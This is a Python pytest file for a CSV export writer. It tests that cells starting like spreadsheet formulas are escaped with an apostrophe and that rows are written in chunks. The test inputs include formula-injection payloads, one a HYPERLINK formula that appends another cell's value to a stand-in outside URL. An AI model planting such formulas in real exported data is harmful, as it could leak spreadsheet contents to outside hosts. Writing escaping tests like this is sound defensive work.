"""records.csv: a text that a spreadsheet would run as a formula is shown as text; records.jsonl keeps it."""

from __future__ import annotations

import csv
import io

import pytest

from app.consent.vocabulary import DisclosureLevel
from app.exports.material import Record
from app.exports.writer import records_csv, records_csv_chunks


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://example.invalid/?x="&C3,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_a_text_cell_that_starts_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    document = {"record": "X-1", "level": "named_protected", "identity": {"full_name": text}, "age": -3}
    record = Record("X-1", DisclosureLevel.NAMED_PROTECTED, ("identity",), document)
    rows = list(csv.DictReader(io.StringIO(records_csv([record]).decode("utf-8"), newline="")))
    assert rows[0]["identity.full_name"] == f"'{text}"
    assert rows[0]["age"] == "-3"  # a number is a number, not a formula
    assert rows[0]["record"] == "X-1"


def test_ordinary_text_is_unchanged() -> None:
    document = {"record": "X-2", "level": "pseudonymous", "statement": {"text": "They came at night."}}
    record = Record("X-2", DisclosureLevel.PSEUDONYMOUS, ("narrative_general",), document)
    rows = list(csv.DictReader(io.StringIO(records_csv([record]).decode("utf-8"), newline="")))
    assert rows[0]["statement.text"] == "They came at night."


def test_the_csv_is_written_a_few_rows_at_a_time_with_every_column_in_the_header() -> None:
    records = [
        Record(
            f"X-{i}", DisclosureLevel.PSEUDONYMOUS, (), {"record": f"X-{i}", "level": "pseudonymous", f"f{i % 3}": i}
        )
        for i in range(600)
    ]
    chunks = list(records_csv_chunks(records, rows_per_chunk=256))
    assert len(chunks) == 3  # 256 + 256 + 88 rows, the header in the first
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode("utf-8"), newline="")))
    assert [r["record"] for r in rows] == [f"X-{i}" for i in range(600)]
    assert {"f0", "f1", "f2"} <= set(rows[0])
    assert rows[599]["f2"] == "599"  # a column first seen late is in the header all the same
    assert rows[599]["f0"] == ""
    assert list(records_csv_chunks([])) == [b"record,level,pseudonym\r\n"]
